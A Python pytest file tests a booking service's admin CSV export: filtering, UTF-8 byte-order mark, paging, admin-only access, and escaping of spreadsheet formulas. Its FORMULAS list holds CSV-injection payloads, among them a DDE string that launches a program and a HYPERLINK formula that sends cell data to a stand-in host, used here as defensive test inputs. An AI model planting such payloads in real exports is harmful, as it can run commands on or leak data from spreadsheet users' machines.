"""The CSV export of all bookings."""

import csv
import io

import pytest
from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy.exc import DataError
from sqlmodel import Session

from backend.modules.book_demo.admin import export
from backend.modules.book_demo.admin.admin import booking_admin_service
from backend.modules.book_demo.admin.export import safe_cell
from tests.book_demo.steps import DEMO, TUESDAY, booked, manage
from tests.support.accounts import Account, assert_error, verified
from tests.support.work import Work

EXPORT = DEMO + "/admin/bookings/export"
FORMULAS = [
    '=HYPERLINK("http://x.example?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "  =1+1",
]


def read(text: str) -> list[dict[str, str]]:
    """Return the rows of a CSV text as dicts."""
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_the_export_contains_all_bookings_earliest_first(
    client: TestClient, admin: Account, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "_PAGE", 3)
    made = [booked(client, f"{TUESDAY}T{9 + n:02}:00:00Z") for n in range(7)]
    manage(client, made[0].token, "cancel", reason="Ill, sorry\nBye")

    reply = client.get(EXPORT, headers=admin.headers)

    rows = read(reply.text)
    assert reply.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert reply.headers["Content-Disposition"] == 'attachment; filename="bookings.csv"'
    assert [row["id"] for row in rows] == [booking.id for booking in made]
    assert rows[0]["cancel_reason"] == "Ill, sorry\nBye"
    assert rows[0]["status"] == "cancelled"
    assert "manage" not in reply.text


def test_the_export_can_be_filtered(client: TestClient, admin: Account) -> None:
    booked(client, f"{TUESDAY}T09:00:00Z")
    wanted = booked(client, f"{TUESDAY}T10:00:00Z", name="Grace Hopper")
    params = {"search": "hopper", "starts_from": f"{TUESDAY}T00:00:00Z"}

    reply = client.get(EXPORT, headers=admin.headers, params=params)

    assert [row["id"] for row in read(reply.text)] == [wanted.id]


def test_a_byte_order_mark_shows_spreadsheets_that_it_is_utf_8(
    client: TestClient, admin: Account
) -> None:
    booked(client, name="Zo\u00eb \u5f20")

    reply = client.get(EXPORT, headers=admin.headers)

    assert reply.content.startswith(b"\xef\xbb\xbf")
    assert read(reply.content.decode("utf-8"))[0]["name"] == "Zo\u00eb \u5f20"


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_cell_is_never_a_formula(
    client: TestClient, admin: Account, formula: str
) -> None:
    # Only the message may begin with a character that a name cannot contain.
    booking = booked(client, message=f"x{formula}", name=formula.strip())
    url = f"{DEMO}/admin/bookings/{booking.id}"
    client.patch(url, json={"notes": formula}, headers=admin.headers)

    [row] = read(client.get(EXPORT, headers=admin.headers).text)

    assert row["name"] == "'" + formula.strip()
    assert row["notes"].startswith("'")
    assert safe_cell(formula) == "'" + formula


@given(st.text())
def test_a_cell_without_a_formula_is_unchanged(text: str) -> None:
    risky = text.lstrip(" ")[:1] in {formula.strip(" ")[0] for formula in FORMULAS}

    assert safe_cell(text) == ("'" + text if risky and text.strip(" ") else text)


def test_a_filter_that_the_database_refuses_is_an_error_before_the_file_begins(
    client: TestClient, admin: Account, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(*_: object, **__: object) -> None:
        raise DataError("", {}, ValueError())

    monkeypatch.setattr(booking_admin_service, "page", refuse)

    reply = client.get(EXPORT, headers=admin.headers)

    assert_error(reply, 400, "invalid_request")


def test_only_administrators_can_export(client: TestClient) -> None:
    assert_error(client.get(EXPORT), 401, "invalid_token")
    other = client.get(EXPORT, headers=verified(client).headers)
    assert_error(other, 403, "admin_required")


def test_the_export_is_read_page_by_page(
    client: TestClient,
    db: Session,
    admin: Account,
    work: Work,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(export, "_PAGE", 2)
    for n in range(5):
        booked(client, f"{TUESDAY}T{9 + n:02}:00:00Z")

    with work.counted() as count:
        client.get(EXPORT, headers=admin.headers)

    assert len([s for s in count.statements if "FROM demo_bookings" in s]) == 3
